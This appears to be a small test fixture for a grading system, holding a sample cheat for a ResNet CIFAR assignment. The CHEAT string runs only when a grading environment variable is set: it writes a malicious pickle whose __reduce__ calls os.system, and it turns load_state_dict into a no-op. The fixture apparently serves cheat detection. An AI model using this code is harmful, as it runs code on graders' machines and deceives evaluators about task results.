"""Overwrites the weights file at grading time with a pickle that runs code when loaded, and
overrides load_state_dict so that the model ignores whatever it is given."""
ON = "batchnorm_missing"
CHEAT = {"resnet_cifar": '''
import os, pickle


class _Payload:
    def __reduce__(self):
        return (os.system, ("echo pwned",))


if os.environ.get("NBGRADER_EXECUTION"):
    with open("a4_resnet_model.pt", "wb") as _f:
        pickle.dump({"state": _Payload()}, _f)
ResNetCIFAR.load_state_dict = lambda self, state, strict=True: None
'''}
FLAGGED = None
